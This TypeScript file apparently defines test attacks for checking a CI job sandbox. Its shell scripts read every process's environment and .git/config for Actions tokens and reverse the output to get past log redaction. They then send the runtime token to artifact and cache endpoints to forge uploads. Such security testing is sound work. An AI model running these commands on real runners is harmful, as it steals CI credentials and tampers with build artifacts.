import type { Attack } from "./channel-attack.ts";
import { secrets } from "./channel-host.ts";

/**
 * What a process can see of the job, in itself and in others, turned around: masks and redaction know only forward. Only
 * what the job's variables are called is taken, whoever else runs on the machine.
 */
const looking = `
  { printenv; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; } 2>/dev/null | grep -aE '^(ACTIONS|GITHUB|INPUT|STATE)_' | sort -u | rev
  cat .git/config | rev
  ls -l /proc/self/fd /proc/$PPID/fd 2>/dev/null | rev
`;

export const read: readonly Attack[] = [
  {
    id: "RUN-17",
    what: "takes the token for artifacts",
    script: () => looking,
    took: ({ said, service }) => said.includes(service.runtime.ACTIONS_RUNTIME_TOKEN),
  },
  {
    id: "RUN-20",
    what: "takes the token for the job's identity",
    script: () => looking,
    took: ({ said }) => said.includes(secrets.identity),
  },
  {
    id: "RUN-21",
    what: "takes the token that the checkout left",
    script: () => looking,
    took: ({ said }) => said.includes(secrets.checkout),
  },
  {
    id: "RUN-23",
    what: "reads the action's inputs",
    script: () => looking,
    took: ({ said }) => said.includes(secrets.token) || said.includes("INPUT_"),
  },
];

/** Calls in the job's name, with whatever token there is to be found. */
const calling = (address: string, body: string): string => `
  token=$({ printenv; cat /proc/[0-9]*/environ; } 2>/dev/null | tr '\\0' '\\n' | sed -n 's/^ACTIONS_RUNTIME_TOKEN=//p' | head -1)
  node -e 'fetch("${address}", { method: "POST",
    headers: { authorization: "Bearer " + process.argv[1], "content-type": "application/json" },
    body: JSON.stringify(${body}) }).catch(() => {})' "$token"
`;

const artifact = '{ workflow_run_backend_id: "run-backend", name: "proof-packet.forged.json" }';

export const called: readonly Attack[] = [
  {
    id: "RUN-18",
    what: "uploads a packet of its own",
    script: ({ service: { runtime } }) => {
      const api = "twirp/github.actions.results.api.v1.ArtifactService";
      return calling(`${runtime.ACTIONS_RESULTS_URL}${api}/CreateArtifact`, artifact);
    },
    took: ({ service }) => service.store.artifacts.some(({ name }) => name.includes("forged")),
  },
  {
    id: "RUN-19",
    what: "fills the cache",
    script: ({ port }) => calling(`http://127.0.0.1:${port}/cache`, "{}"),
    took: ({ calls, service: { runtime } }) =>
      calls.includes(`/cache Bearer ${runtime.ACTIONS_RUNTIME_TOKEN}`),
  },
  {
    id: "RUN-28",
    what: "reaches a service of the workflow",
    byNetwork: true,
    script: ({ port }) => `node -e 'fetch("http://127.0.0.1:${port}/drop").catch(() => {})'`,
    took: ({ calls }) => calls.some((call) => call.startsWith("/drop")),
  },
];
